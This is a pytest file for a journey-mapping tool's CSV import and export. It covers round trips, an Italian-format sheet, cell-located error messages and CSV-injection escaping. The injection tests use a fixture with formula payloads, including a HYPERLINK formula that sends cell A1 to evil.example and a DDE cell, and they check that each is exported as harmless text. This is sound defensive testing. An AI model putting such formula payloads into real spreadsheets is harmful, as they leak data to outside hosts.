"""Spreadsheets in and out: the examples' round trip, an Italian sheet, errors at their cell."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from interop.helpers import CORPUS, EXAMPLES, example_root, run, validate_ok

from generator.content.validate import check_root

JOURNEYS = sorted(
    p.relative_to(EXAMPLES).with_suffix("").as_posix()
    for p in EXAMPLES.glob("*/*.yaml")
    if p.parts[len(EXAMPLES.parts)] not in ("personas", "opportunities", "research")
)


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return example_root(tmp_path)


@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("journey_id", JOURNEYS)
def test_round_trip_keeps_the_whole_model(root: Path, journey_id: str, separator: str) -> None:
    code, sheet, stderr = run("export", "csv", journey_id, "--delimiter", separator)
    assert (code, stderr) == (0, "")
    Path("sheet.csv").write_text(sheet, encoding="utf-8", newline="")
    code, stdout, stderr = run("import", "csv", "sheet.csv", "-o", "journeys/back/trip.yaml")
    assert (code, stderr) == (0, "")
    assert stdout == "created journeys/back/trip.yaml\n"
    validate_ok(root)
    content = check_root(root)
    original, back = content.journeys[journey_id], content.journeys["back/trip"]
    # the id comes from where the sheet is imported to; everything else comes back
    assert back.model_dump(exclude={"id"}) == original.model_dump(exclude={"id"})


def test_the_sheet_a_spreadsheet_shows(root: Path) -> None:
    code, sheet, _ = run("export", "csv", "workshop/blank-map")
    assert code == 0
    rows = list(csv.reader(io.StringIO(sheet)))
    assert rows[0] == [
        "stage", "title", "stage_id", "stage_description", "customer_type", "journey_title",
        "persona", "summary", "timeframe", "maintainer", "reviewed", "tags",
    ]  # fmt: skip
    # a stage with no steps: a row with the stage and an empty title; an id only where
    # the stage's name would not give it
    assert rows[2] == [
        "Consideration", "", "",
        "What does she compare, and with whom? What makes her hesitate?", "prospect",
        "", "", "", "", "", "", "",
    ]  # fmt: skip
    assert rows[5][:3] == ["Loyalty and advocacy", "", "loyalty-advocacy"]
    assert rows[1][7].startswith("A blank template for the **journey-mapping workshop**")
    code, sheet, _ = run("export", "csv", "b2b/first-purchase")
    header = next(csv.reader(io.StringIO(sheet)))
    assert header[:4] == ["stage", "title", "doing", "touchpoint"]
    assert "custom.kpi" in header and "emotion" in header
    assert "marco: -1; giulia: 0" in sheet
    assert "drop_off: 35%; conversion: 0.12" in sheet


def test_an_italian_sheet(root: Path) -> None:
    """Semicolons, a BOM, CRLF rows, accents, quoted cells over two lines, decimal commas."""
    shutil.copy(CORPUS / "csv" / "italiano.csv", "Mappa_clienti.csv")
    code, stdout, stderr = run("import", "csv", "Mappa_clienti.csv")
    assert (code, stderr) == (0, "")
    assert stdout == "created journeys/mappa-clienti.yaml\n"
    validate_ok(root)
    assert (root / "mappa-clienti.yaml").read_text(encoding="utf-8") == (
        "# Imported from Mappa_clienti.csv by journeymap.\n"
        "title: Mappa clienti\n"
        "stages:\n"
        "  - name: Consapevolezza\n"
        "    steps:\n"
        "      - title: Vede la pubblicità su Instagram\n"
        "        doing: Scorre il feed la sera\n"
        "        emotion: 1\n"
        "        channel: social\n"
        "        owner: marketing\n"
        "        metrics:\n"
        "          ctr: 2.1%\n"
        "      - title: Chiede consiglio al collega\n"
        "        doing: |-\n"
        "          Ne parla alla macchinetta del caffè:\n"
        "          «quale gestionale usate?»\n"
        "        emotion: {sara: 0, luca: -1}\n"
        "        channel: word-of-mouth\n"
        "        actors: [sara, luca]\n"
        "        moment_of_truth: true\n"
        "        pains:\n"
        "          - Nessuno ricorda il nome\n"
        "          - Il sito non compare\n"
        "  - name: Acquisto\n"
        "    steps:\n"
        "      - title: Non trova le spese di spedizione\n"
        "        emotion: -1.5\n"
        "        channel: web\n"
        "        owner: ecommerce\n"
        "        moment_of_truth: true\n"
        "        pains:\n"
        "          - Costi nascosti\n"
        "          - Nessun totale\n"
        "        metrics:\n"
        "          drop_off: 35%\n"
        "          csat: 3.1\n"
        "        custom:\n"
        "          kpi: Tasso di abbandono\n"
        "  - name: Fidelizzazione\n"
        "    steps: []\n"
    )


def test_title_option_and_new_people(root: Path) -> None:
    Path("s.csv").write_text(
        'stage,title,emotion,actors\nScelta,Confronta,"Niccolò Dell\'Acqua: 2; marco: -2",\n',
        encoding="utf-8",
    )
    code, stdout, stderr = run("import", "csv", "s.csv", "--title", "Perché compra?")
    assert (code, stderr) == (0, "")
    assert stdout == (
        "created journeys/perche-compra.yaml\ncreated journeys/personas/niccolo-dell-acqua.yaml\n"
    )
    assert (root / "personas" / "niccolo-dell-acqua.yaml").read_text(encoding="utf-8") == (
        "name: Niccolò Dell'Acqua\n"
    )
    assert "emotion: {niccolo-dell-acqua: 2, marco: -2}" in (root / "perche-compra.yaml").read_text(
        encoding="utf-8"
    )
    validate_ok(root)


ERRORS = [
    (
        "stage,titel\nA,B\n",
        [
            "s.csv:1:1: error: the header has no 'title' column",
            "s.csv:1:7: error: unknown column 'titel' (did you mean 'title'?)",
        ],
    ),
    (
        "stage,title,emotion\nA,B,3\nA,C,molto\n",
        [
            "s.csv:2:5: error: emotion: 3 is outside the scale -2..2",
            "s.csv:3:5: error: emotion: expected a number, got 'molto'",
        ],
    ),
    (
        "stage,title,channel,owner\nA,B,webb,sales\nA,C,web,vendite\n",
        [
            "s.csv:2:5: error: channel: unknown channel 'webb' (did you mean 'web'?); "
            "declare it in site.yaml channels",
            "s.csv:3:9: error: owner: unknown department 'vendite'; "
            "declare it in site.yaml departments",
        ],
    ),
    (
        'stage,title,doing\nA,B,"never closed\n',
        ["s.csv:2:5: error: a quoted cell is never closed"],
    ),
    (
        "stage,title,doing\nA,,does something\n",
        [
            "s.csv:2:4: error: title: this row has step cells but no title; a row with a stage "
            "and no title keeps an empty stage"
        ],
    ),
    (
        "stage,title,id,custom.kpo\nA,B,b,\nA,C,b,\n",
        [
            "s.csv:1:16: error: unknown custom lane 'kpo' (did you mean 'kpi'?); "
            "declare it in site.yaml custom_lanes"
        ],
    ),
    (
        "stage,title,id\nA,B,b\nA,C,b\n",
        ["s.csv:3:5: error: id: id 'b' is used twice (first at line 2)"],
    ),
    (
        "stage,title,metrics,moment_of_truth\nA,B,drop_off 35%,forse\n",
        [
            "s.csv:2:5: error: metrics: expected name: value, got 'drop_off 35%'",
            "s.csv:2:18: error: moment_of_truth: expected yes or no, got 'forse'",
        ],
    ),
    (
        "stage,title\n,B\n",
        ["s.csv:2:1: error: stage: the first row names no stage"],
    ),
    ("stage,title\n", ["s.csv:1:1: error: the sheet has no rows below its header"]),
]


@pytest.mark.parametrize(("text", "messages"), ERRORS)
def test_errors_name_their_cell(root: Path, text: str, messages: list[str]) -> None:
    Path("s.csv").write_text(text, encoding="utf-8")
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    code, stdout, stderr = run("import", "csv", "s.csv")
    assert (code, stdout) == (1, "")
    assert stderr.splitlines()[:-1] == messages
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_never_overwrites(root: Path) -> None:
    Path("s.csv").write_text("stage,title\nA,B\n", encoding="utf-8")
    assert run("import", "csv", "s.csv")[0] == 0
    written = (root / "s.yaml").read_bytes()
    code, stdout, stderr = run("import", "csv", "s.csv")
    assert (code, stdout) == (1, "")
    assert stderr == (
        "Error: journeys/s.yaml exists already; nothing was written "
        "(choose another file with -o, or remove it)\n"
    )
    assert (root / "s.yaml").read_bytes() == written


def test_stages_keep_the_order_they_first_appear_in(root: Path) -> None:
    Path("s.csv").write_text("stage,title\nB,one\nA,two\nB,three\n,four\nC,\n", encoding="utf-8")
    assert run("import", "csv", "s.csv")[0] == 0
    journey = check_root(root).journeys["s"]
    assert [(s.name, [step.title for step in s.steps]) for s in journey.stages] == [
        ("B", ["one", "three", "four"]),
        ("A", ["two"]),
        ("C", []),
    ]


def test_a_sheet_saved_in_another_encoding(root: Path) -> None:
    Path("s.csv").write_bytes("stage,title\nScelta,Perché\n".encode("cp1252"))
    code, _, stderr = run("import", "csv", "s.csv")
    assert code == 1
    assert stderr == (
        "s.csv:2:13: error: this is not UTF-8 text; save it as UTF-8 "
        "(in Excel: 'CSV UTF-8', in other editors: encoding UTF-8)\n"
        "1 error, 0 warnings in 1 file\n"
    )


def test_for_excel(root: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "generator", "export", "csv", "ecommerce/cart-abandonment",
         "--delimiter", ";", "--bom"],
        capture_output=True, check=True,
    )  # fmt: skip
    assert result.stdout.startswith("\ufeffstage;title;".encode())
    assert b"\r\n" in result.stdout
    Path("excel.csv").write_bytes(result.stdout)
    result = subprocess.run(
        [sys.executable, "-m", "generator", "import", "csv", "excel.csv", "-o", "journeys/x.yaml"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert (result.returncode, result.stdout, result.stderr) == (
        0, "created journeys/x.yaml\n", "",
    )  # fmt: skip
    content = check_root(root)
    back, original = content.journeys["x"], content.journeys["ecommerce/cart-abandonment"]
    assert back.model_dump(exclude={"id"}) == original.model_dump(exclude={"id"})


FORMULAS = """
title: Formule
persona: giulia
summary: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Clicca\\")"
stages:
  - name: "+SUM(A1)"
    steps:
      - title: "@foo"
        emotion: -2
        doing: "-2+3"
        thinking: "\\tDDE"
        feeling: "\\r=1+1"
        pains: ["=1+1", "ok"]
        backstage: "'=già quotato"
      - title: Numeri
        emotion: -0.5
        metrics: {csat: -3.5}
        doing: "-2"
      - title: "È +1 qui"
        emotion: 1.5
"""


def test_export_cells_are_never_formulas(root: Path) -> None:
    """OWASP's CSV injection guidance: a cell starting with = + - @ tab or CR is prefixed
    with ' and quoted, so a spreadsheet shows it as text; a number stays a number."""
    (root / "formule.yaml").write_text(FORMULAS, encoding="utf-8")
    code, sheet, stderr = run("export", "csv", "formule")
    assert (code, stderr) == (0, "")
    header = sheet.split("\n", 1)[0].split(",")
    assert header[:7] == ["stage", "title", "doing", "thinking", "feeling", "emotion", "pains"]
    rows = list(csv.reader(io.StringIO(sheet)))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["stage"] == "'+SUM(A1)"
    assert cells["title"] == "'@foo"
    assert cells["emotion"] == "-2"
    assert cells["doing"] == "'-2+3"
    assert cells["thinking"] == "'\tDDE"
    assert cells["feeling"] == "'\r=1+1"
    assert cells["pains"] == "'=1+1\nok"
    assert cells["backstage"] == "''=già quotato"
    assert cells["summary"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Clicca")'
    second = dict(zip(rows[0], rows[2], strict=True))
    assert (second["emotion"], second["doing"], second["metrics"]) == ("-0.5", "-2", "csat: -3.5")
    third = dict(zip(rows[0], rows[3], strict=True))
    assert (third["title"], third["emotion"]) == ("È +1 qui", "1.5")
    # as written: quoted where escaped, a number bare
    assert '\n"\'+SUM(A1)","\'@foo","\'-2+3","\'\tDDE","\'\r=1+1",-2,' in sheet
    assert '\n"\'+SUM(A1)",Numeri,-2,,,-0.5,,,csat: -3.5,' in sheet


def test_export_of_formulas_round_trips(root: Path) -> None:
    """Importing our own sheet takes the ' back off: what was written comes back."""
    # a CR in a cell is read back as a line break, as every line break is
    (root / "formule.yaml").write_text(FORMULAS.replace("\\r=", "\\n="), encoding="utf-8")
    for separator in (",", ";"):
        code, sheet, _ = run("export", "csv", "formule", "--delimiter", separator)
        assert code == 0
        Path("sheet.csv").write_text(sheet, encoding="utf-8", newline="")
        target = f"journeys/back/formule{separator == ';'}.yaml".lower()
        code, stdout, stderr = run("import", "csv", "sheet.csv", "-o", target)
        assert (code, stderr) == (0, ""), stdout
    content = check_root(root)
    original = content.journeys["formule"].model_dump(exclude={"id"})
    for back in ("back/formulefalse", "back/formuletrue"):
        assert content.journeys[back].model_dump(exclude={"id"}) == original
